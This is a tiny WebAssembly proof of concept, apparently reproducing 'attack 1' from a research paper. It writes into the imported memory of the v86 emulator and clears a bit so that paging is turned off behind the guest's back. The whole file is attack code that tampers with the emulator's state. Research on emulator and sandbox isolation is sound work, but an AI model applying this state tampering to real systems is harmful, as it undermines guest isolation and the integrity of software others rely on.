;; Paging turned off behind the guest (attack 1 of the paper).
(import "v86" "memory" (memory 1))

(func $attack (export "attack")
  (i32.store (i32.const 580) (i32.and (i32.load (i32.const 580)) (i32.const 0x7fffffff))))
